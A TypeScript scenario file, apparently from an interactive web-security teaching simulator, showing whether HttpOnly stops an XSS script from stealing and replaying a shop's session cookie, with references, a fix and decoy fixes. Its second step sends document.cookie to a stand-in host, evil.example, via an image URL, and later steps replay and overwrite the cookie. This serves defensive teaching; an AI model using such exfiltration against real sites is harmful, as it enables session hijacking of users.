import type { Actor } from './engine/cast.ts';
import { sidOf } from './engine/identity.ts';
import { scenario } from './engine/scenario.ts';

/** Returns the query string from the script, as the attacker's server received it. */
const loot = (browser: Actor) => decodeURIComponent(browser.last.text.split('?')[1] ?? '');

export default scenario({
  slug: 'httponly-vs-xss',
  chapter: 'cookie',
  title: 'HttpOnly and XSS',
  subtitle: 'What a script can steal',
  synonyms: [
    'document.cookie',
    'cross-site scripting',
    'steal cookie',
    'stolen cookie',
    'cookie theft',
    'hijack',
    'hijacking',
    'script injection',
  ],
  question: 'If an attacker’s script runs in my page, does HttpOnly protect me?',
  weakness: 'cookie-readable-by-scripts',
  actors: { alice: 'victim', mallory: 'attacker' },
  // Echoes the requested path, so that the response shows what arrived.
  sites: { 'https://evil.example': ({ path }) => ({ body: path }) },
  cookieAttributes: ['HttpOnly'],
  references: [
    'ASVS V3.3.4',
    'WSTG-SESS-02',
    'WSTG-CLNT-12',
    'RFC6265bis 5.7',
    'RFC6265bis 5.8.2',
    'NIST 63B-4 5.1.1',
    'CWE-1004',
    'CWE-79',
    'CWE-522',
    'CAPEC-31',
    'CAPEC-63',
  ],
  steps: [
    {
      title: 'Alice logs in',
      purpose: 'Get a session cookie',
      narration:
        'One of the scripts in the shop’s page is Mallory’s. An unescaped comment is enough: cross-site scripting (XSS). So is a hacked analytics supplier. To the browser it is a script of the page like any other.',
      act: ({ alice }) => alice.post('/auth/login', { email: 'alice@shop.example', password: 'rabbit-hole-7' }),
      claims: ['alice gets a session cookie'],
      ask: {
        question: 'Is the session cookie marked HttpOnly?',
        answer: ({ alice }) => (alice.cookie()?.httpOnly ? 'yes' : 'no'),
        vulnerable: 'no',
        protected: 'yes',
      },
    },
    {
      title: 'The script sends document.cookie to evil.example',
      purpose: 'Steal the cookie',
      narration: {
        vulnerable:
          'Reading document.cookie takes one line, and an image whose URL contains the result sends it to any server. This session cookie has no HttpOnly, so the browser shows it to every script of the page.',
        protected:
          'Reading document.cookie takes one line, and an image whose URL contains the result sends it to any server. But the session cookie is HttpOnly: the browser sends it and shows it to no script. The text is empty.',
        both: 'Reading document.cookie takes one line, and an image whose URL contains the result sends it to any server. HttpOnly means that the browser sends this cookie but shows it to no script.',
      },
      act: ({ alice }) => alice.image(`https://evil.example/loot?${encodeURIComponent(alice.readCookies())}`),
      ask: {
        question: 'Did the session ID arrive at evil.example?',
        answer: ({ alice }) => (loot(alice).includes(sidOf(alice.cookie()) ?? '-') ? 'yes' : 'no'),
        vulnerable: 'yes',
        protected: 'no',
      },
    },
    {
      title: 'Mallory sends what she received',
      purpose: 'Use it on another computer',
      narration: {
        vulnerable:
          'She sends it from her own computer. A stolen session ID works there even after Alice closes the page: a cookie does not say which browser it was issued to.',
        protected:
          'She received an address without a cookie in it, so she has nothing to send. To the shop she is a visitor: 401.',
        both: 'She sends it from her own computer. A stolen session ID works there even after Alice closes the page: a cookie does not say which browser it was issued to. If the script could not read one, Mallory has nothing to send.',
      },
      act: ({ mallory, alice }) => mallory.get('/me', { cookie: loot(alice) }),
      claims: { vulnerable: ['mallory sends the session ID of alice'], protected: ['mallory sends no session cookie'] },
      ask: {
        question: 'Who does the shop think she is?',
        answer: ({ mallory }) => mallory.last.json?.email ?? 'nobody',
        vulnerable: 'alice@shop.example',
        protected: 'nobody',
      },
    },
    {
      title: 'The script looks for the session ID in a response',
      purpose: 'Try to bypass HttpOnly',
      narration:
        'A script may fetch and read everything that the page may. So no response may contain the session ID: the list of Alice’s devices names each session by a hash of its ID.',
      act: ({ alice }) => alice.get('/sessions'),
      claims: ['alice sends a session cookie'],
      ask: {
        question: 'Is the session ID in the response?',
        answer: ({ alice }) => (alice.last.text.includes(sidOf(alice.cookie()) ?? '-') ? 'yes' : 'no'),
        vulnerable: 'no',
        protected: 'no',
      },
    },
    {
      title: 'The script orders a hat in Alice’s name',
      purpose: 'Use the cookie without reading it',
      narration:
        'The shop accepts an order only with a token against cross-site request forgery (CSRF). The script gets it from GET /me and posts like one of the shop’s own pages. The browser adds the cookie, as it does for every request of this page. HttpOnly does not stop this use while the page is open.',
      act: async ({ alice }) => {
        await alice.get('/me');
        await alice.post('/basket', { item: 'hat' });
        await alice.post('/orders');
      },
      claims: ['alice sends a session cookie'],
      ask: {
        question: 'What does the shop answer to the order?',
        answer: ({ alice }) => alice.last.status,
        vulnerable: 201,
        protected: 201,
      },
    },
    {
      title: 'The script writes its own session cookie',
      purpose: 'Replace the session cookie',
      narration: {
        vulnerable:
          'A script that can write the session cookie can put Alice into a session of its choice, or out of hers. Without HttpOnly the browser lets it overwrite the shop’s cookie. Under a name that begins with __Host-Http-, no script may set a cookie.',
        protected:
          'The browser lets no script overwrite an HttpOnly cookie, so the shop’s stays. A script can still fill the cookie jar until the browser drops the oldest, and then set its own, unless the name begins with __Host-Http-: no script may set such a cookie.',
        both: 'A script that can write the session cookie can put Alice into a session of its choice, or out of hers. A browser lets no script overwrite an HttpOnly cookie. A script can still fill the cookie jar until the browser drops the oldest, and then set its own, unless the name begins with __Host-Http-: no script may set such a cookie.',
      },
      act: ({ alice }) => alice.writeCookie('__Host-sid=written-by-a-script; Path=/; Secure'),
      ask: {
        question: 'Did the browser accept it?',
        answer: ({ alice }) => (alice.cookie()?.value === 'written-by-a-script' ? 'yes' : 'no'),
        vulnerable: 'yes',
        protected: 'no',
      },
    },
    {
      title: 'Alice opens her account page',
      purpose: 'See the effect on Alice',
      narration: {
        vulnerable:
          'The browser sends the cookie that is in the jar now. The shop treats a value that it did not sign as no cookie, so Alice has to log in again.',
        protected:
          'The browser sends the cookie that is in the jar now. It is still the one that the shop signed, so Alice notices nothing.',
        both: 'The browser sends the cookie that is in the jar now. The vulnerable shop treats a value that it did not sign as no cookie, so Alice has to log in again. In the protected one it is still the cookie that the shop signed.',
      },
      act: ({ alice }) => alice.get('/me'),
      claims: ['alice sends the cookie __Host-sid'],
      ask: {
        question: 'What does the shop answer?',
        answer: ({ alice }) => alice.last.status,
        vulnerable: 401,
        protected: 200,
      },
    },
  ],
  lesson:
    'HttpOnly stops the theft of the session, not its use: a script in the page still acts as the user while the page is open.',
  fix: `cookie: { httpOnly: true, secure: true, sameSite: 'lax', path: '/' }`,
  notTheFix: [
    'Keeping the session ID in localStorage: every script of the page can read it, and localStorage has no HttpOnly.',
    'Encrypting the cookie’s value: a thief does not need to understand it, only to send it.',
    'A CSRF token against the script: it runs in the page and reads the token like the page’s own scripts. Only escaping, a content security policy and asking for the password before dangerous actions help.',
  ],
  repairs: {
    fix: {
      title: 'HttpOnly, and a list without session IDs',
      idea: 'Scripts cannot read the cookie, and the list of devices names each session by a hash of its ID.',
      because: 'The session ID is in no place that a script can read, so it cannot leave the browser.',
    },
    decoys: [
      {
        file: 'readable-cookie-for-this-site-only',
        title: 'SameSite=Strict instead of HttpOnly',
        idea: 'No request that another site causes carries the cookie, so it cannot get to evil.example.',
        because: 'The script runs in the shop’s own page. It reads the cookie and sends its value as text.',
        fails: { step: 3, answer: 'alice@shop.example' },
      },
      {
        file: 'session-list-gives-ids-away',
        title: 'HttpOnly, and the session IDs in the list',
        idea: 'Scripts cannot read the cookie. Pages that need the session ID find it in the list of devices.',
        because: 'The cookie is protected, but a script of the page reads the list as the page’s own scripts do.',
        fails: { step: 4, answer: 'yes' },
      },
    ],
  },
});
